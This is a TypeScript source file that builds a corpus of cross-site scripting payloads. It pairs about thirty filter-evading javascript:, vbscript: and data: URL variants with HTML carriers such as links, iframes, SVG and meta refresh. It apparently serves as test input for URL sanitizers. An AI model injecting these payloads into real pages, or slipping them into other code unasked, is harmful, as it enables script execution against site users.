const RUN = 'alert(1)';
const entity = (text: string, write: (code: number) => string): string =>
  Array.from(text, (letter) => write(letter.charCodeAt(0))).join('');

/** Addresses that run a script when they are followed or loaded, written in ways that evade filters. */
export const ADDRESSES: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` \u0001javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `java\r\nscript\t:${RUN}`,
  `javascript&colon;${RUN}`,
  `java&Tab;script:${RUN}`,
  `java&NewLine;script:${RUN}`,
  `${entity('javascript:', (code) => `&#${code};`)}${RUN}`,
  `${entity('javascript:', (code) => `&#x${code.toString(16)};`)}${RUN}`,
  `${entity('javascript:', (code) => `&#${String(code).padStart(7, '0')}`)}${RUN}`,
  `javascript://host/%0a${RUN}`,
  `javascript://https://host/%0d%0a${RUN}`,
  `javascript:void(0);${RUN}`,
  `\u00a0javascript:${RUN}`,
  `\u2028javascript:${RUN}`,
  `feed:javascript:${RUN}`,
  `view-source:javascript:${RUN}`,
  `jar:javascript:${RUN}!/`,
  `vbscript:${RUN}`,
  `livescript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>${RUN}</script>`,
  `DATA:text/html,<body onload=${RUN}>`,
  `blob:javascript:${RUN}`,
  `filesystem:javascript:${RUN}`,
  `file:///etc/passwd?${RUN}`,
];

/** Markup that an address can occur in. */
const CARRIERS: readonly ((address: string) => string)[] = [
  (to) => `<a href="${to}">go</a>`,
  (to) => `<a href='#' xlink:href="${to}"><img src="${to}" alt=go></a>`,
  (to) => `<iframe src="${to}"></iframe>`,
  (to) => `<object data="${to}"></object><embed src="${to}">`,
  (to) => `<form action="${to}"><button formaction="${to}">go</button><input type=image src="${to}"></form>`,
  (to) => `<svg><a xlink:href="${to}"><text>go</text></a><use href="${to}"/></svg>`,
  (to) => `<math><mi xlink:href="${to}" href="${to}">go</mi></math>`,
  (to) => `<base href="${to}"><meta http-equiv=refresh content="0;url=${to}">`,
  (to) => `<video poster="${to}" src="${to}"><source src="${to}"></video>`,
];

/** Each address in each carrier. */
export const ADDRESS_PAYLOADS: readonly string[] = ADDRESSES.flatMap((address) =>
  CARRIERS.map((carry) => carry(address)),
);
